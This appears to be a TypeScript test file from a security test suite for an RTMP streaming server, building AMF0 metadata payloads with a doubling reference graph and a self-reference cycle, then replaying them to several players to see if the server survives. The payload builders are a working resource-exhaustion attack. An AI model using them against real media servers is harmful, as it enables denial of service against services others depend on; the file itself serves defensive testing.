/**
 * Item 2: `@setDataFrame onMetaData` built from AMF0 references (0x07): each level refers twice to the level
 * before, so ~420 bytes on the wire describe a value whose re-encoding is ~29 MB (20 levels; each level doubles it), and one more
 * object that refers to itself (a cycle). The attacker publishes it, then plays its own stream from a few
 * connections (each play re-sends the metadata).
 */
import { readFile } from 'node:fs/promises';
import { MessageType } from '../../rtmp/messages';
import { readFlv } from '../../testing/flv-file';
import { testFlv } from '../../testing/media';
import type { Attack } from '../suite';
import { attackerStream, destroyAll, pick, rtmpPlayer, rtmpPublisher, sleep } from './tools';
import type { RtmpClient } from '../../testing/rtmp-client';

function str(s: string): Buffer {
  const b = Buffer.alloc(3 + Buffer.byteLength(s));
  b[0] = 0x02;
  b.writeUInt16BE(Buffer.byteLength(s), 1);
  b.write(s, 3);
  return b;
}
function key(k: string): Buffer {
  const b = Buffer.alloc(2 + k.length);
  b.writeUInt16BE(k.length, 0);
  b.write(k, 2, 'latin1');
  return b;
}
const ref = (i: number) => Buffer.from([0x07, i >> 8, i & 0xff]);
const END = Buffer.from([0x00, 0x00, 0x09]);
const num = (n: number) => {
  const b = Buffer.alloc(9);
  b[0] = 0x00;
  b.writeDoubleBE(n, 1);
  return b;
};

/** `@setDataFrame`, `onMetaData`, ECMA array { width, height, l0: {n: null}, l1: {a: ref l0, b: ref l0}, ... }. */
export function referenceDag(levels: number): Buffer {
  const parts = [str('@setDataFrame'), str('onMetaData'), Buffer.from([0x08, 0, 0, 0, 0])];
  parts.push(key('width'), num(320), key('height'), num(240));
  // Reference indexes: 0 is the ECMA array itself, 1 is l0, k+1 is l_k.
  parts.push(key('l0'), Buffer.from([0x03]), key('n'), Buffer.from([0x05]), END);
  for (let k = 1; k <= levels; k++) parts.push(key(`l${k}`), Buffer.from([0x03]), key('a'), ref(k), key('b'), ref(k), END);
  parts.push(END);
  return Buffer.concat(parts);
}

/** `onMetaData` whose ECMA array contains a reference to itself. */
export function referenceCycle(): Buffer {
  return Buffer.concat([str('@setDataFrame'), str('onMetaData'), Buffer.from([0x08, 0, 0, 0, 0]), key('width'), num(320), key('self'), ref(0), END]);
}

export const amfReferences: Attack = {
  name: 'item 2: AMF0 reference DAG (and cycle) in onMetaData, re-sent to players',
  async run(ctx) {
    const levels = pick(ctx, 20, 22);
    const players = pick(ctx, 3, 5);
    const clients: RtmpClient[] = [];
    const notes: string[] = [];
    const problems: string[] = [];
    try {
      const tags = readFlv(await readFile(await testFlv()));
      const vcfg = tags.find((t) => t.type === 9 && t.data[1] === 0)!;
      const key = tags.find((t) => t.type === 9 && t.data[0] >> 4 === 1 && t.data[1] === 1)!;
      for (const [what, payload] of [['cycle', referenceCycle()], [`DAG of ${levels} levels`, referenceDag(levels)]] as const) {
        const s = await attackerStream(ctx);
        const pub = await rtmpPublisher(ctx, s.key);
        clients.push(pub);
        pub.sendMessage({ csid: 5, type: MessageType.DataAmf0, streamId: pub.streamId, timestamp: 0, payload });
        // Real media after it, so the stream is live and every play starts with the metadata.
        pub.video(0, vcfg.data);
        pub.video(0, key.data);
        await sleep(300);
        const t0 = Date.now();
        const results = await Promise.allSettled(Array.from({ length: what === 'cycle' ? 1 : players }, (_, i) => rtmpPlayer(ctx, s.id, i + 1)));
        for (const r of results) if (r.status === 'fulfilled') clients.push(r.value);
        const ok = results.filter((r) => r.status === 'fulfilled').length;
        notes.push(`${what}: ${payload.length} bytes sent; ${ok}/${results.length} players started in ${Date.now() - t0} ms${ok < results.length ? ` (${(results.find((r) => r.status === 'rejected') as PromiseRejectedResult).reason})` : ''}`);
        await sleep(500);
        if (!ctx.server.alive()) break;
      }
    } catch (err) {
      notes.push(`attacker stopped: ${(err as Error).message}`);
    } finally {
      destroyAll(clients);
    }
    return { notes, problems: ctx.server.alive() ? problems : [] };
  },
};
